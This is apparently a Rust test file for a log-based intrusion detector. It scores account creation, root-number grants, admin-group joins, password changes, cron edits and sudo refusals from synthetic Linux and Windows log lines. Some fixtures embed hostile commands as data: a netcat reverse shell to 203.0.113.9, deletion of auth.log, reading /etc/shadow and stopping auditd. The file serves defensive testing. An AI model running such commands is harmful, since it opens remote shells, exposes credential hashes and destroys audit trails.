//! Accounts made and raised, tries for another's rights, and the same in ordinary company.

use nms_proto::event::Body;

use crate::host::{Hub, TEN, check, line, refused};

/// One o'clock in the night after.
const NIGHT: f64 = 15.0 * 3_600.0;

/// All that is said of lines a second apart, `SEVERITY category: message` each.
fn said(start_s: f64, lines: &[(&str, &str)]) -> String {
    let mut hub = Hub::new();
    for (at, (app, text)) in lines.iter().enumerate() {
        hub.feed(start_s + at as f64, "web", line(app, 9, text));
    }
    let say =
        |finding: &nms_proto::finding::Finding| format!("{} {}: {}", finding.floor, finding.category, finding.message);
    hub.said.iter().map(say).collect::<Vec<_>>().join("\n")
}

const MADE: (&str, &str) =
    ("useradd", "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=/dev/pts/0");
const SUDO: (&str, &str) = ("sudo", "carol : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/adduser bob");

const STRANGER: (&str, &str) = ("sudo", "emil : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/adduser bob");

#[test]
fn root_s_number_is_critical_whoever_gave_it() {
    for (app, text, account) in [
        ("useradd", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=none", "toor"),
        ("/usr/sbin/useradd", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/sh", "toor"),
        ("usermod", "change user 'bob' UID from '1001' to '0'", "bob"),
    ] {
        let expected = format!(
            "CRITICAL privilege_escalation: the account {account} was given the number 0, which is root's on web"
        );
        check(&said(0.0, &[(app, text)]), &expected);
        check(&said(0.0, &[SUDO, ("dpkg", "status installed x:amd64 1.0"), (app, text)]), &expected);
    }
}

#[test]
fn joining_the_administrators_depends_on_who_was_at_work() {
    for (app, text) in [
        ("usermod", "add 'bob' to group 'sudo'"),
        ("usermod", "add 'bob' to shadow group 'sudo'"),
        ("gpasswd", "user bob added by root to group sudo"),
        ("gpasswd", "members of group sudo set by root to bob"),
    ] {
        let say = |severity: &str| {
            format!("{severity} privilege_escalation: bob joined the administrators' group sudo on web")
        };
        let joined = (app, text);
        check(&said(NIGHT, &[joined]), &say("HIGH"));
        check(&said(0.0, &[joined]), &say("MEDIUM"));
        check(&said(NIGHT, &[SUDO, joined]), &say("LOW"));
        check(&said(NIGHT, &[STRANGER, joined]), &say("MEDIUM"));
        check(&said(0.0, &[STRANGER, joined]), &say("LOW"));
        check(&said(0.0, &[SUDO, joined]), &say("LOW"));
        check(&said(0.0, &[("su", "(to root) carol on pts/0"), joined]), &say("LOW"));
        let key = ("sshd", "Accepted publickey for root from 10.0.0.5 port 40022 ssh2: ED25519 SHA256:x");
        check(&said(0.0, &[key, joined]), &say("LOW"));
        check(&said(NIGHT, &[key, joined]), &say("MEDIUM"));
        check(&said(NIGHT, &[("cloud-init", "Cloud-init v. 23.1 running 'modules:config'"), joined]), &say("LOW"));
        check(
            &said(NIGHT, &[("systemd", "Starting apt-daily-upgrade.service - Daily apt upgrade..."), joined]),
            &say("MEDIUM"),
        );
        check(&said(NIGHT, &[("ansible-user", "Invoked with name=bob groups=['sudo']"), joined]), &say("LOW"));
    }
}

#[test]
fn who_may_read_logs_is_no_administrator() {
    let joined = ("usermod", "add 'telegraf' to group 'adm'");
    let say = |severity: &str| {
        format!("{severity} privilege_escalation: telegraf joined the group adm, whose members read logs, on web")
    };
    check(&said(0.0, &[joined]), &say("LOW"));
    check(&said(0.0, &[SUDO, joined]), &say("INFO"));
    check(&said(NIGHT, &[joined]), &say("MEDIUM"));
}

#[test]
fn an_account_made_is_worth_more_at_night() {
    check(&said(0.0, &[SUDO, MADE]), "INFO persistence: the account bob was made on web");
    check(&said(0.0, &[MADE]), "LOW persistence: the account bob was made on web");
    check(&said(NIGHT, &[MADE]), "MEDIUM persistence: the account bob was made on web");
    check(&said(NIGHT, &[SUDO, MADE]), "INFO persistence: the account bob was made on web");
    check(&said(NIGHT, &[STRANGER, MADE]), "LOW persistence: the account bob was made on web");
}

/// Whoever used root's rights yesterday is an administrator today, and a night's work of his is one incident.
#[test]
fn an_administrator_is_known_the_next_day() {
    let mut hub = Hub::new();
    hub.feed(0.0, "web", line("sudo", 9, STRANGER.1));
    hub.feed(NIGHT, "web", line("sudo", 9, STRANGER.1));
    for at in 0..20 {
        let name = format!("new{at}");
        hub.feed(NIGHT + f64::from(at), "web", line("useradd", 9, &MADE.1.replace("bob", &name)));
        hub.feed(NIGHT + f64::from(at), "web", line("usermod", 9, &format!("add '{name}' to group 'sudo'")));
    }
    assert_eq!(hub.alerts(), 1, "{}", hub.text());
    assert!(hub.said.iter().all(|finding| finding.floor <= nms_proto::severity::Severity::Low), "{}", hub.text());
}

#[test]
fn passwords_shells_and_locks() {
    check(
        &said(NIGHT, &[("passwd", "pam_unix(passwd:chauthtok): password changed for root")]),
        "HIGH persistence: the password of root was set on web",
    );
    check(
        &said(0.0, &[("chpasswd", "pam_unix(chpasswd:chauthtok): password changed for root")]),
        "MEDIUM persistence: the password of root was set on web",
    );
    check(
        &said(0.0, &[SUDO, ("passwd", "password for 'root' changed by 'root'")]),
        "LOW persistence: the password of root was set on web",
    );
    check(
        &said(0.0, &[("usermod", "change user 'www-data' shell from '/usr/sbin/nologin' to '/bin/bash'")]),
        "MEDIUM persistence: the service account www-data was given the shell /bin/bash on web",
    );
    check(
        &said(0.0, &[("usermod", "unlock user 'bob' password")]),
        "LOW persistence: the account bob was unlocked on web",
    );
}

/// Packages bring accounts and groups, people change their own passwords and shells.
#[test]
fn ordinary_changes_are_silent() {
    for lines in [
        &[("useradd", "new user: name=redis, UID=112, GID=118, home=/var/lib/redis, shell=/usr/sbin/nologin")][..],
        &[("useradd", "new user: name=sshd, UID=74, GID=74, home=/var/empty/sshd, shell=/sbin/nologin, from=none")],
        &[
            ("groupadd", "new group: name=docker, GID=998"),
            ("groupadd", "group added to /etc/group: name=sudo, GID=27"),
        ],
        &[("useradd", "new user: name=postgres, UID=26, GID=26, home=/var/lib/pgsql, shell=/bin/bash")],
        &[("usermod", "add 'bob' to group 'audio'"), ("usermod", "add 'postfix' to group 'sasl'")],
        &[("passwd", "pam_unix(passwd:chauthtok): password changed for bob")],
        &[("usermod", "change user 'bob' UID from '1001' to '1000'")],
        &[
            ("usermod", "change user 'bob' shell from '/bin/bash' to '/bin/zsh'"),
            ("chsh", "changed user 'bob' shell to '/bin/zsh'"),
        ],
        &[("usermod", "change user 'www-data' home from '/var/www' to '/srv/www'")],
        &[("userdel", "delete user 'bob'"), ("userdel", "removed group 'bob' owned by 'bob'")],
        &[("chage", "changed password expiry for bob")],
        &[("useradd", "failed adding user 'bob', data deleted")],
    ] {
        check(&said(NIGHT, lines), "");
    }
}

/// What others write into their lines changes nobody's account.
#[test]
fn words_of_others_change_no_account() {
    for (app, text) in [
        ("sshd", "Invalid user new user: name=toor, UID=0, GID=0 from 192.0.2.7 port 4711"),
        ("webapp", "new user: name=toor, UID=0, GID=0"),
        ("webapp", "pam_unix(passwd:chauthtok): password changed for root"),
        (
            "sudo",
            "bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo add 'x' to group 'sudo'",
        ),
    ] {
        let text = said(NIGHT, &[(app, text)]);
        assert!(!text.contains("account") && !text.contains("joined") && !text.contains("password"), "{app}: {text}");
    }
}

#[test]
fn after_guessing_everything_counts() {
    let mut hub = Hub::new();
    for at in 0..8 {
        hub.feed(f64::from(at), "web", refused("dora", "203.0.113.9", 100 + at));
    }
    hub.feed(10.0, "web", line("sshd", 120, "Accepted password for dora from 203.0.113.9 port 40022 ssh2"));
    hub.feed(20.0, "web", line("useradd", 9, MADE.1));
    hub.feed(21.0, "web", line("usermod", 9, "add 'bob' to group 'wheel'"));
    hub.feed(
        22.0,
        "web",
        line("sudo", 9, "dora : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"),
    );
    hub.feed(23.0, "web", line("crontab", 9, "(dora) REPLACE (dora)"));
    hub.feed(24.0, "web", line("crontab", 9, "(emil) REPLACE (emil)"));
    let text = hub.text();
    assert!(text.contains("HIGH persistence x1 open: the account bob was made on web"), "{text}");
    assert!(text.contains("CRITICAL privilege_escalation x2 open: bob joined"), "{text}");
    assert!(text.contains("HIGH persistence x1 open: dora on web was guessed and changed what cron runs"), "{text}");
    assert!(!text.contains("emil"), "{text}");
    assert!(text.contains("HIGH privilege_escalation x1 open: dora tries for root's rights on web"), "{text}");
}

#[test]
fn windows_groups_and_accounts() {
    let json = |id: u32, members: &str| {
        format!(r#"{{"EventID":{id},"Channel":"Security",{members},"SubjectUserName":"mallory"}}"#)
    };
    let domain = r#""TargetUserName":"Domain Admins","TargetSid":"S-1-5-21-1-2-3-512","MemberName":"CN=eve,DC=x""#;
    let renamed = r#""TargetUserName":"Chefs","TargetSid":"S-1-5-32-544","MemberName":"CN=eve""#;
    for (id, members, group, member) in
        [(4728, domain, "Domain Admins", "CN=eve,DC=x"), (4732, renamed, "Chefs", "CN=eve")]
    {
        let say = |severity: &str| {
            format!("{severity} privilege_escalation: {member} joined the administrators' group {group} on web")
        };
        check(&said(NIGHT, &[("", &json(id, members))]), &say("HIGH"));
        check(&said(0.0, &[("", &json(id, members))]), &say("MEDIUM"));
        let by_carol = json(id, members).replace("mallory", "Carol");
        check(&said(0.0, &[("", &by_carol)]), &say("LOW"));
    }
    let text = "4732: A member was added to a security-enabled local group.  Subject:  Security ID:  S-1-5-21-1  Account Name:  mallory  \
                Member:  Security ID:  S-1-5-21-9  Account Name:  eve  Group:  Security ID:  S-1-5-32-544  Group Name:  Administrators  Group Domain:  Builtin";
    check(
        &said(0.0, &[("Microsoft-Windows-Security-Auditing", text)]),
        "MEDIUM privilege_escalation: eve joined the administrators' group Administrators on web",
    );
    check(
        &said(NIGHT, &[("", &json(4720, r#""TargetUserName":"eve""#))]),
        "MEDIUM persistence: the account eve was made on web",
    );
    for members in [
        (4728, r#""TargetUserName":"Printer Users","MemberName":"CN=eve""#),
        (4720, r#""TargetUserName":"DESKTOP-7$""#),
        (4738, r#""TargetUserName":"eve""#),
        (4722, r#""TargetUserName":"eve""#),
        (4724, r#""TargetUserName":"eve""#),
        (4724, r#""TargetUserName":"Administrator7""#),
    ] {
        check(&said(NIGHT, &[("", &json(members.0, members.1))]), "");
    }
}

const NOT_ALLOWED: &str =
    "bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/shadow";

#[test]
fn refusals_by_sudo_and_su() {
    let tries = |severity: &str| format!("{severity} privilege_escalation: bob tries for root's rights on web");
    let (alone, mistyped) = (tries("LOW"), String::new());
    for (app, text, once) in [
        ("sudo", NOT_ALLOWED, &alone),
        ("sudo", "bob : command not allowed ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh", &alone),
        ("sudo", "bob : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", &mistyped),
        ("su", "FAILED SU (to root) bob on pts/0", &mistyped),
        ("su", "FAILED su for root by bob", &mistyped),
        ("su", "BAD SU bob to root on /dev/ttyp0", &mistyped),
    ] {
        check(&said(0.0, &[(app, text)]), once);
        check(&said(0.0, &[(app, text); 3]), &format!("{}\n{}", tries("LOW"), tries("MEDIUM")));
    }
    let wrong = "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh";
    check(&said(0.0, &[("sudo", wrong)]), &tries("LOW"));
}

/// Mistyped once a day, jobs that cannot ask, other people's accounts.
#[test]
fn ordinary_refusals_stay_low() {
    let mut hub = Hub::new();
    for day in 0..5 {
        hub.feed(f64::from(day) * 3_600.0, "web", line("su", 0, "FAILED SU (to root) bob on pts/0"));
    }
    for at in 0..50 {
        let nobody = "nagios : a password is required ; PWD=/ ; USER=root ; COMMAND=/usr/lib/nagios/check_raid";
        hub.feed(20_000.0 + f64::from(at) * 60.0, "web", line("sudo", 0, nobody));
    }
    for at in 0..2 {
        hub.feed(30_000.0 + f64::from(at), "web", line("su", 0, "FAILED SU (to alice) bob on pts/0"));
    }
    check(&hub.text(), "");
}

#[test]
fn a_thousand_refusals_are_one_alert_and_late_ones_are_judged_in_their_time() {
    let mut hub = Hub::new();
    for at in 0..1_000 {
        hub.feed(f64::from(at), "web", line("sudo", 0, NOT_ALLOWED));
    }
    hub.wait(9_000.0);
    assert_eq!(hub.alerts(), 1);
    assert!(hub.said.len() <= 7, "{}", hub.text());
    assert_eq!(hub.said.last().unwrap().count, 1_000);
    let mut hub = Hub::new();
    for at in 0..20 {
        let body: Body = line("sudo", 0, NOT_ALLOWED);
        hub.feed_late(TEN + i64::from(at) * 1_200_000, TEN + 90_000_000, "web", body);
    }
    assert!(hub.said.iter().all(|finding| finding.floor.as_str() == "LOW"), "{}", hub.text());
}

/// That a tool is there, looks for news or has nothing to do is no work, and few tools set accounts.
#[test]
fn what_a_tool_says_in_passing_explains_nothing() {
    let joined = ("usermod", "add 'mallory' to group 'wheel'");
    let password = ("passwd", "password for 'root' changed by 'root'");
    for (app, text, group, root, stops) in [
        ("dnf", "Metadata cache refreshed recently.", "HIGH", "HIGH", "HIGH"),
        ("snapd", "daemon.go:247: started snapd/2.61 (series 16; classic)", "HIGH", "HIGH", "HIGH"),
        ("puppet-agent", "Applied catalog in 2.31 seconds", "HIGH", "HIGH", "HIGH"),
        ("sssd", "Starting up", "HIGH", "HIGH", "HIGH"),
        ("realmd", "claimed name on bus", "HIGH", "HIGH", "HIGH"),
        ("systemd", "Started packagekit.service - PackageKit Daemon.", "HIGH", "HIGH", "HIGH"),
        ("dpkg", "status installed nginx:amd64 1.24", "MEDIUM", "MEDIUM", "LOW"),
        ("ansible-ansible.builtin.copy", "Invoked with src=a dest=b", "MEDIUM", "MEDIUM", "LOW"),
        ("ansible-user", "Invoked with name=mallory groups=['wheel']", "LOW", "LOW", "LOW"),
        (
            "puppet-agent",
            "(/Stage[main]/Base/User[mallory]/groups) groups changed [] to ['wheel']",
            "LOW",
            "LOW",
            "LOW",
        ),
    ] {
        let joined = said(NIGHT, &[(app, text), joined]);
        assert!(joined.starts_with(&format!("{group} privilege_escalation")), "{app} {text}: {joined}");
        let password = said(NIGHT, &[(app, text), password]);
        assert!(password.starts_with(&format!("{root} persistence")), "{app} {text}: {password}");
        let stopped = said(NIGHT, &[(app, text), ("CRON", "(root) CMD (systemctl stop auditd)")]);
        assert!(stopped.starts_with(&format!("{stops} log_tampering")), "{app} {text}: {stopped}");
    }
}

/// A host that renews its administrator's password tells so each month; who changes accounts is known the next day.
#[test]
fn windows_hosts_and_administrators_of_their_own() {
    let reset = |subject: &str, sid: &str| {
        format!(
            r#"{{"EventID":4724,"Channel":"Security","TargetUserName":"Administrator","SubjectUserName":"{subject}","SubjectUserSid":"{sid}"}}"#
        )
    };
    let rendered = "4724: An attempt was made to reset an account's password.  Subject:  Security ID:  S-1-5-18  Account Name:  WIN10-017$  \
                    Account Domain:  X  Target Account:  Security ID:  S-1-5-21-1-500  Account Name:  Administrator  Account Domain:  WIN10-017";
    for (text, severity) in [
        (reset("WIN10-017$", "S-1-5-18"), "INFO"),
        (reset("WEB$", "S-1-5-21-1"), "INFO"),
        (rendered.into(), "INFO"),
        (reset("WIN10-018$", "S-1-5-21-1"), "HIGH"),
        (reset("mallory", "S-1-5-21-1"), "HIGH"),
    ] {
        let said = said(NIGHT, &[("Microsoft-Windows-Security-Auditing", &text)]);
        assert!(said.starts_with(&format!("{severity} persistence")), "{text}: {said}");
    }
    let joined = r#"{"EventID":4728,"Channel":"Security","TargetUserName":"Domain Admins","MemberName":"CN=eve","SubjectUserName":"helpdesk"}"#;
    let mut hub = Hub::new();
    hub.feed(0.0, "web", line("", 0, joined));
    hub.feed(NIGHT, "web", line("", 0, joined));
    let floors: Vec<_> = hub.said.iter().map(|finding| finding.floor.as_str()).collect();
    assert_eq!(floors, ["MEDIUM", "LOW"], "{}", hub.text());
}

#[test]
fn a_service_that_gives_cron_work() {
    for (lines, severity) in [
        (&[("crontab", "(www-data) REPLACE (www-data)")][..], "HIGH persistence: www-data on web is the account"),
        (&[SUDO, ("crontab", "(www-data) REPLACE (www-data)")], "LOW persistence: www-data on web is the account"),
        (&[("crontab", "(root) REPLACE (www-data)")], ""),
        (&[("crontab", "(bob) REPLACE (bob)")], ""),
        (&[("crontab", "(www-data) LIST (www-data)")], ""),
    ] {
        let said = said(0.0, lines);
        assert!(said.starts_with(severity) && said.is_empty() == severity.is_empty(), "{lines:?}: {said}");
    }
}

/// A name as long as a line may be is not kept as it is.
#[test]
fn long_names_are_cut() {
    let mut hub = Hub::new();
    let name = "x".repeat(60_000);
    for text in [
        format!("{name} : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"),
        format!("{name} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/auth.log"),
        format!("{name} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4444"),
    ] {
        hub.feed(0.0, "web", line("sudo", 0, &text));
    }
    hub.feed(1.0, "web", line("usermod", 0, &format!("add '{name}' to group 'sudo'")));
    assert!(hub.alerts() >= 3, "{}", hub.text());
    for finding in &hub.said {
        assert!(finding.actor.as_ref().is_none_or(|actor| actor.len() <= 255), "{}", finding.message);
        assert!(finding.message.len() < 1_000, "{}", finding.message);
    }
}
